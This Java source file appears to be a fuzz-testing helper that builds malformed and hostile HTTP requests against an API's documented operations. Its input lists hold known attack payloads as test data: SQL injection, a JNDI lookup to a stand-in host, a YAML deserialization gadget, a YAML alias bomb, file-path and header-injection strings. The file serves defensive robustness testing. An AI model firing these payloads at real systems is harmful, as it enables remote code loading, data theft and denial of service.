package io.sallyport.standalone.api;

import io.sallyport.standalone.api.DocumentedApi.Operation;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Makes calls that a hostile client might make: of the right shape, and wrong in every place. */
final class HostileCalls {
    private static final List<String> TEXTS = List.of(
            "1",
            "0",
            "-1",
            "9223372036854775808",
            "1e999",
            "NaN",
            "true",
            "",
            " ",
            "*",
            "%",
            "%00",
            "..",
            "a".repeat(3000),
            "\u0000\u0001\r\nX: y",
            "\uD83D\uDE00\u202E\u00e4",
            "' or 1=1 --",
            "\"); drop table records; --",
            "status>=500 and (((",
            "(".repeat(2000),
            "not ".repeat(1500) + "status=1",
            "999999999d",
            "2026-13-45T99:00:00Z",
            "-99999999999-01-01T00:00:00Z",
            "${jndi:ldap://evil.test/x}",
            "{{7*7}}",
            "http://[::1",
            "http://a:99999/",
            "javascript:alert(1)",
            "file:///etc/passwd",
            "shop",
            "ads",
            "json",
            "yaml",
            "ndjson",
            "csv");
    private static final List<String> NAMES = List.of(
            "since",
            "until",
            "where",
            "limit",
            "cursor",
            "format",
            "fields",
            "by",
            "every",
            "top",
            "order",
            "status",
            "kind",
            "url",
            "client",
            "at",
            "host",
            "dryRun",
            "author",
            "note",
            "last",
            "examples",
            "accept",
            "all",
            "unknown",
            "%ff");
    private static final List<String> BODIES = List.of(
            "",
            "{}",
            "[]",
            "null",
            "7",
            "\"x\"",
            "{",
            "[".repeat(50_000),
            "{\"a\":".repeat(3000),
            "{\"url\":7,\"prefix\":[],\"group\":{},\"everything\":\"x\"}",
            "{\"everything\":false}",
            "[{\"group\":\"a\"},7]",
            "{\"weight\":1e400}",
            "{\"weight\":-1,\"step\":9}",
            "{\"for\":\"-5m\",\"site\":\"x\"}",
            "{\"for\":\"99999999999d\",\"list\":\"ads\"}",
            "{\"since\":\"x\",\"records\":-1,\"proposed\":7}",
            "{\"proposed\":{\"memory\":\"-5\",\"lifetime\":\"x\",\"drop\":[7]}}",
            "rules: [",
            "rules: 7",
            "a: &a [*a, *a]",
            "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                    + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://127.0.0.1:1/\"]]]]",
            "rules: [{name: \"a\u0000\", then: block}]",
            "x".repeat(200_000));
    private static final List<String> TYPES = List.of(
            "application/json",
            "application/yaml",
            "text/plain",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "application/json; charset=utf-16",
            "nonsense",
            "image/png");

    private final Random random;

    HostileCalls(long seed) {
        this.random = new Random(seed);
    }

    /** One call of an operation. */
    record Wish(Operation operation, String target, Buffer body, String[] fields) {
        @Override
        public String toString() {
            String shown = body == null ? "" : body.getString(0, Math.min(60, body.length()));
            return operation.method() + " " + (target.length() > 200 ? target.substring(0, 200) : target) + " "
                    + List.of(fields) + " " + shown;
        }
    }

    Wish next(DocumentedApi api, Operation operation) {
        String target = operation.path();
        List<String> pairs = new ArrayList<>();
        for (JsonObject written : operation.parameters()) {
            JsonObject parameter = api.resolved(written);
            String name = parameter.getString("name");
            if ("path".equals(parameter.getString("in"))) {
                target = target.replace("{" + name + "}", segment(parameter));
            } else if ("query".equals(parameter.getString("in")) && random.nextInt(3) > 0) {
                pairs.add(name + "=" + encoded(value(parameter)));
            }
        }
        for (int i = random.nextInt(3); i > 0; i--) {
            pairs.add(any(NAMES) + "=" + encoded(any(TEXTS)));
        }
        String query = pairs.isEmpty() ? "" : "?" + String.join("&", pairs);
        boolean body = !operation.method().equals("GET") || random.nextInt(10) == 0;
        return new Wish(operation, target + query, body ? body() : null, fields());
    }

    private String value(JsonObject parameter) {
        return random.nextInt(3) == 0 ? parameter.getString("example", any(TEXTS)) : any(TEXTS);
    }

    /** Not empty, and nothing that is refused for its spelling every time. */
    private String segment(JsonObject parameter) {
        String text = value(parameter);
        return text.isEmpty() ? "x" : encoded(text);
    }

    private Buffer body() {
        if (random.nextInt(8) == 0) {
            byte[] noise = new byte[random.nextInt(300)];
            random.nextBytes(noise);
            return Buffer.buffer(noise);
        }
        return Buffer.buffer(any(BODIES));
    }

    private String[] fields() {
        List<String> fields = new ArrayList<>();
        if (random.nextInt(3) > 0) {
            fields.addAll(List.of("Content-Type", any(TYPES)));
        }
        if (random.nextInt(3) == 0) {
            fields.addAll(
                    List.of("If-Match", any(List.of("*", "\"1\"", "x", "\"", "W/\"1\"", "\"99999999999999999999\""))));
        }
        if (random.nextInt(4) == 0) {
            fields.addAll(List.of("If-None-Match", any(List.of("*", "\"1\"", ",,,", "\""))));
        }
        if (random.nextInt(4) == 0) {
            fields.addAll(List.of("Accept", any(List.of("*/*", "application/x-ndjson", "text/html", ";;;", "q=1"))));
        }
        if (random.nextInt(6) == 0) {
            fields.addAll(List.of("X-Request-Id", any(List.of("ok-1", "a b", "x".repeat(300), "../.."))));
        }
        if (random.nextInt(8) == 0) {
            fields.addAll(List.of("Origin", any(List.of("null", "http://evil.test", "http://127.0.0.1"))));
        }
        if (random.nextInt(8) == 0) {
            fields.addAll(List.of("Authorization", any(List.of("Bearer x", "Basic eDp5", "Bearer", "x"))));
        }
        return fields.toArray(String[]::new);
    }

    private String any(List<String> of) {
        return of.get(random.nextInt(of.size()));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
